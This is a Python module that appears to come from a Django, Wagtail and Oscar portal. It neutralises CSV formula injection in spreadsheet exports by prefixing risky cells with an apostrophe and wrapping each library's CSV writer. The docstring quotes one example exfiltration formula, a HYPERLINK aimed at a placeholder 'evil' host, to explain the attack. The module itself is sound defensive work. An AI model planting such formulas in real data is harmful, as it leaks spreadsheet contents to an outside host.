"""Spreadsheet exports whose cells never run as formulas (CSV injection).

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a formula to
Excel and LibreOffice: ``=HYPERLINK("http://evil/?"&A1)`` typed into a form by a visitor runs
when an editor opens the export. :func:`inert` puts an apostrophe in front, which spreadsheet
programs show as text. Our exports write through :func:`csv_writer`; Wagtail's (form
submissions, reports, viewsets: ``SpreadsheetExportMixin``) and Oscar's (dashboard orders,
reports: ``UnicodeCSVWriter``) get the same from :func:`make_library_exports_inert`.
"""

import csv
from functools import wraps
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def inert(value: Any) -> Any:
    """``value``, or, for text a spreadsheet would read as a formula, that text as plain text."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class _InertWriter:
    def __init__(self, writer: Any) -> None:
        self._writer = writer

    def writerow(self, row: Any) -> Any:
        return self._writer.writerow([inert(cell) for cell in row])

    def writerows(self, rows: Any) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(file: Any, **options: Any) -> _InertWriter:
    """``csv.writer(file)`` whose cells are made :func:`inert`."""
    return _InertWriter(csv.writer(file, **options))


def make_library_exports_inert() -> None:
    """Wrap the one method through which each library writes its CSV cells (idempotent)."""
    from oscar.core.compat import UnicodeCSVWriter
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    preprocess = SpreadsheetExportMixin.preprocess_field_value
    if not getattr(preprocess, "portal_inert", False):

        @wraps(preprocess)
        def preprocess_field_value(self, field, value, export_format):
            # XLSX: openpyxl already stores formula-looking text as text
            result = preprocess(self, field, value, export_format)
            return inert(result) if export_format == self.FORMAT_CSV else result

        preprocess_field_value.portal_inert = True
        SpreadsheetExportMixin.preprocess_field_value = preprocess_field_value

    writerow = UnicodeCSVWriter.writerow
    if not getattr(writerow, "portal_inert", False):

        @wraps(writerow)
        def inert_writerow(self, row):
            return writerow(self, [inert(cell) for cell in row])

        inert_writerow.portal_inert = True
        UnicodeCSVWriter.writerow = inert_writerow
